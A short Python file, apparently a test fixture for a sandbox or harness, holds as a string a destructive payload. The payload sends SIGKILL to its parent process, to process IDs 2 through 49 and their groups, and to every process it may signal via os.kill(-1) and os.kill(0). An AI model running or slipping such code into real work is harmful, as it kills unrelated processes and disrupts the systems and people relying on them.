"""Kills the process, its parents and everything else that it may signal."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = """
import os
import signal

for target in (os.getppid(), *range(2, 50)):
    for sign in (1, -1):
        try:
            os.kill(sign * target, signal.SIGKILL)
        except OSError:
            pass


def every_code(*args):
    os.kill(-1, signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
"""
